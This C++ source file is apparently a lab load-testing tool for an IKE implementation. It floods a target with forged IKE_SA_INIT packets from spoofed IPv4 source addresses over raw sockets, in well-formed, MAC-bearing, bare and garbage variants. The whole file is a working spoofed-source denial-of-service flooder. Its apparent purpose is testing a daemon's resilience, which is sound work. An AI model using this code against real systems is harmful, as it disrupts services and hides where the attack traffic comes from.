// SPDX-License-Identifier: Apache-2.0
//
// hawser-ikeflood: first messages of IKE from sources that are not ours, as fast as one thread can
// make and send them. Prints JSON at the end: {"sent": ..., "octets": ..., "seconds": ...}, octets
// of UDP payload.
//
//   init      well-formed IKE_SA_INIT requests, each with an SPI, a nonce and a key of its own
//   mac       the same with the MAC of quiet mode, by somebody who knows the victim's public key
//   bare      no more than the header of such a request
//   garbage   octets by chance behind the non-ESP marker
#include <netinet/in.h>
#include <netinet/ip.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <boost/program_options.hpp>
#include <cerrno>
#include <cstring>
#include <ctime>
#include <iostream>
#include <map>
#include <nlohmann/json.hpp>
#include <optional>
#include <random>
#include <span>
#include <stdexcept>
#include <vector>

#include "crypto/identity_key.h"
#include "ike-lite/ike_message.h"
#include "ike-lite/quiet_mac.h"
#include "tests/netns/tools/sockets.h"
#include "tests/netns/tools/tool_main.h"

namespace hawser::lab {
namespace {

using Octets = std::vector<std::uint8_t>;

constexpr std::size_t kBatch = 32;
constexpr std::size_t kIpHeaderSize = 20;
constexpr std::size_t kUdpHeaderSize = 8;
constexpr std::size_t kMarkerSize = 4;
constexpr std::size_t kNonceSize = 32;
constexpr std::size_t kPublicValueSize = 32;
constexpr std::size_t kGarbageMax = 600;

enum class Kind : std::uint8_t { kInit, kMac, kBare, kGarbage };

class Chance {
 public:
  explicit Chance(std::uint64_t seed) : engine_(seed) {}
  std::uint64_t next() { return engine_(); }
  std::uint32_t below(std::uint32_t limit) { return static_cast<std::uint32_t>(next() % limit); }
  Octets octets(std::size_t size) {
    Octets result(size + 8);
    for (std::size_t at = 0; at < size; at += 8) store_be64(&result[at], next());
    result.resize(size);
    return result;
  }

 private:
  std::mt19937_64 engine_;
};

// The octets behind the UDP header.
class Forger {
 public:
  Forger(Kind kind, const std::optional<IdentityPublicKey>& victim, std::uint64_t seed)
      : kind_(kind), victim_(victim), chance_(seed) {
    message_.header.exchange = static_cast<std::uint8_t>(ExchangeType::kIkeSaInit);
    message_.header.from_initiator = true;
    if (kind == Kind::kBare) return;
    IkePayloads& payloads = message_.payloads;
    Proposal& proposal = payloads.sa.emplace().proposals.emplace_back();
    proposal.transforms = {
        {static_cast<std::uint8_t>(TransformType::kEncryption), kEncryptionAesGcm16, 256, false},
        {static_cast<std::uint8_t>(TransformType::kPrf), kPrfHmacSha256, {}, false},
        {static_cast<std::uint8_t>(TransformType::kKeyExchange), kGroupX25519, {}, false}};
    payloads.add_notify(NotifyType::kFragmentationSupported);
    payloads.add_notify(NotifyType::kSignatureHashAlgorithms, {0, 5});
    // Hashes of addresses that are not ours, as behind a NAT.
    payloads.add_notify(NotifyType::kNatDetectionSourceIp, chance_.octets(20));
    payloads.add_notify(NotifyType::kNatDetectionDestinationIp, chance_.octets(20));
  }

  Octets forge() {
    Octets payload(kMarkerSize);
    const Octets body =
        kind_ == Kind::kGarbage ? chance_.octets(1 + chance_.below(kGarbageMax)) : request();
    payload.insert(payload.end(), body.begin(), body.end());
    return payload;
  }

 private:
  Octets request() {
    message_.header.spi_initiator = IkeSpi(chance_.next() | 1);
    if (kind_ == Kind::kBare) return message_.serialize();
    IkePayloads& payloads = message_.payloads;
    payloads.nonce = chance_.octets(kNonceSize);
    payloads.key_exchange =
        KeyExchangePayload{.group = kGroupX25519, .data = chance_.octets(kPublicValueSize)};
    if (kind_ == Kind::kMac) {
      add_quiet_mac(payloads, message_.header.spi_initiator, *victim_, std::time(nullptr));
    }
    return message_.serialize();
  }

  Kind kind_;
  std::optional<IdentityPublicKey> victim_;
  Chance chance_;
  IkeMessage message_;
};

// IPv4 datagrams with any source; the kernel adds identification and checksum of the IP header.
class RawSender {
 public:
  explicit RawSender(const std::string& to) : to_(SocketAddress::parse(to)) {
    fd_ = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd_ < 0) throw_errno("cannot open a raw socket");
    const int size = 1 << 20;
    ::setsockopt(fd_, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof size);
    std::memcpy(&in_, &to_.storage, sizeof in_);
  }
  ~RawSender() { ::close(fd_); }
  RawSender(const RawSender&) = delete;
  RawSender& operator=(const RawSender&) = delete;

  Octets datagram(std::uint32_t source, std::uint16_t port, const Octets& payload) const {
    Octets whole(kIpHeaderSize + kUdpHeaderSize);
    const auto udp_size = static_cast<std::uint16_t>(kUdpHeaderSize + payload.size());
    whole[0] = 0x45;
    store_be16(&whole[2], static_cast<std::uint16_t>(kIpHeaderSize + udp_size));
    whole[8] = 64;
    whole[9] = IPPROTO_UDP;
    store_be32(&whole[12], source);
    store_be32(&whole[16], ntohl(in_.sin_addr.s_addr));
    store_be16(&whole[20], port);
    store_be16(&whole[22], ntohs(in_.sin_port));
    store_be16(&whole[24], udp_size);  // checksum 0: none
    whole.insert(whole.end(), payload.begin(), payload.end());
    return whole;
  }

  // What the kernel did not take is given up: it is not the victim that is to be spared.
  std::size_t send(std::span<Octets> batch) {
    std::array<iovec, kBatch> pieces;
    std::array<mmsghdr, kBatch> messages{};
    for (std::size_t i = 0; i < batch.size(); ++i) {
      pieces[i] = {batch[i].data(), batch[i].size()};
      messages[i].msg_hdr.msg_iov = &pieces[i];
      messages[i].msg_hdr.msg_iovlen = 1;
      messages[i].msg_hdr.msg_name = &to_.storage;
      messages[i].msg_hdr.msg_namelen = to_.size;
    }
    const int sent = ::sendmmsg(fd_, messages.data(), static_cast<unsigned>(batch.size()), 0);
    if (sent < 0 && errno != EINTR && errno != ENOBUFS && errno != EAGAIN) {
      throw_errno("cannot send");
    }
    return sent < 0 ? 0 : static_cast<std::size_t>(sent);
  }

 private:
  SocketAddress to_;
  sockaddr_in in_{};
  int fd_ = -1;
};

struct Flood {
  std::string to, kind, public_key;
  std::uint32_t first_source = 0, sources = 0;
  double seconds = 0, pps = 0;
  std::uint64_t seed = 0;
};

nlohmann::json run(const Flood& flood) {
  static const std::map<std::string, Kind> kKinds = {{"init", Kind::kInit},
                                                     {"mac", Kind::kMac},
                                                     {"bare", Kind::kBare},
                                                     {"garbage", Kind::kGarbage}};
  const auto kind = kKinds.find(flood.kind);
  if (kind == kKinds.end()) throw std::runtime_error("no kind `" + flood.kind + "`");
  const auto victim = IdentityPublicKey::parse(flood.public_key);
  if (kind->second == Kind::kMac && !victim) throw std::runtime_error("mac needs --public-key");
  Forger forger(kind->second, victim, flood.seed);
  Chance chance(flood.seed + 1);
  RawSender sender(flood.to);
  std::vector<Octets> batch(kBatch);
  std::uint64_t sent = 0, octets = 0;
  const TimePoint start = read_clock();
  const TimePoint end = start + Duration(static_cast<std::int64_t>(flood.seconds * 1e9));
  for (TimePoint now = start; now < end; now = read_clock()) {
    if (flood.pps > 0) {
      sleep_until(start +
                  Duration(static_cast<std::int64_t>(static_cast<double>(sent) / flood.pps * 1e9)));
    }
    for (Octets& datagram : batch) {
      const auto port = static_cast<std::uint16_t>(1024 + chance.below(64'000));
      datagram =
          sender.datagram(flood.first_source + chance.below(flood.sources), port, forger.forge());
    }
    const std::size_t count = sender.send(batch);
    for (std::size_t i = 0; i < count; ++i) {
      octets += batch[i].size() - kIpHeaderSize - kUdpHeaderSize;
    }
    sent += count;
  }
  const std::chrono::duration<double> took = read_clock() - start;
  return {{"sent", sent},
          {"octets", octets},
          {"seconds", took.count()},
          {"pps", static_cast<double>(sent) / took.count()},
          {"cpu_seconds", thread_cpu_seconds()}};
}

int main_with_options(int argc, char** argv) {
  namespace po = boost::program_options;
  Flood flood;
  std::string source;
  po::options_description help(
      "hawser-ikeflood KIND --to ADDRESS:PORT: forged beginnings of IKE; KIND is init, mac, bare "
      "or garbage");
  auto add = help.add_options();
  add("help", "this text");
  add("kind", po::value(&flood.kind)->required(), "init, mac, bare or garbage (may stand alone)");
  add("to", po::value(&flood.to)->required(), "the victim's IPv4 address and port");
  add("source", po::value(&source)->default_value("198.18.0.0"), "the first of the sources");
  add("sources", po::value(&flood.sources)->default_value(1 << 17), "how many there are");
  add("public-key", po::value(&flood.public_key), "the victim's, for the MAC of quiet mode");
  add("seconds", po::value(&flood.seconds)->default_value(5), "how long");
  add("pps", po::value(&flood.pps)->default_value(0), "datagrams a second; 0: as fast as it goes");
  add("seed", po::value(&flood.seed)->default_value(1), "of everything that is by chance");
  po::positional_options_description first;
  first.add("kind", 1);
  po::variables_map values;
  po::store(po::command_line_parser(argc, argv).options(help).positional(first).run(), values);
  if (values.count("help") != 0) {
    std::cout << help;
    return 0;
  }
  po::notify(values);
  const SocketAddress address = SocketAddress::parse(source + ":0");
  sockaddr_in in;
  std::memcpy(&in, &address.storage, sizeof in);
  if (in.sin_family != AF_INET || flood.sources == 0) {
    throw std::runtime_error("sources are IPv4 addresses, and at least one");
  }
  flood.first_source = ntohl(in.sin_addr.s_addr);
  std::cout << run(flood).dump() << std::endl;
  return 0;
}

}  // namespace
}  // namespace hawser::lab

int main(int argc, char** argv) {
  return hawser::lab::tool_main("hawser-ikeflood", hawser::lab::main_with_options, argc, argv);
}
